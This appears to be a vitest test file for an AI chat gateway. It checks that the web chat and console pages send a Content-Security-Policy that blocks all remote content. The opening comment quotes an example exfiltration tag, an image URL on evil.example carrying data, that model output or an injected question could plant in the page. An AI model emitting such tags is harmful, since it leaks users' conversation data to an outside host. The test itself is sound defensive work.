/**
 * Issue 44, "nothing unfurls": the web chat and the console load no remote content. The real routes
 * on a real loopback server: every fetch directive of their Content-Security-Policy allows only the
 * page's own origin (and `data:`/`blob:` images), so an `<img src="https://evil.example/?d=…">` that
 * model output or a question smuggled into the page is never fetched.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { webChatRoute } from "../../internal/gateway/web-chat.js";
import { consoleRoute } from "../../internal/gateway/console-route.js";

let server: Server;
let base: string;

beforeAll(async () => {
  const routes = [webChatRoute(), consoleRoute()];
  server = createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://127.0.0.1");
    for (const r of routes) if (r(req, res, url)) return;
    res.writeHead(404).end();
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise((r) => server.close(r));
});

/** The policy's directives as name -> sources. */
function directives(csp: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const part of csp.split(";")) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) out.set(name, values);
  }
  return out;
}

const LOCAL = new Set(["'self'", "'none'", "'unsafe-inline'"]);

describe.each([
  ["the web chat", "/"],
  ["the console", "/console/"],
])("%s", (_name, path) => {
  it("allows no remote source: images from the page or data:/blob: at most", async () => {
    const res = await fetch(`${base}${path}`);
    const csp = res.headers.get("content-security-policy");
    expect(csp, `${path} has a Content-Security-Policy`).toBeTruthy();
    const d = directives(csp ?? "");
    expect(d.get("default-src")).toEqual(["'none'"]);
    for (const [name, values] of d) {
      if (!name.endsWith("-src")) continue;
      for (const v of values)
        expect(
          LOCAL.has(v) || ((name === "img-src" || name === "media-src") && (v === "data:" || v === "blob:")),
          `${name} ${v}`,
        ).toBe(true);
    }
    expect(d.get("img-src")?.every((v) => ["'self'", "data:", "blob:", "'none'"].includes(v))).toBe(true);
  });
});
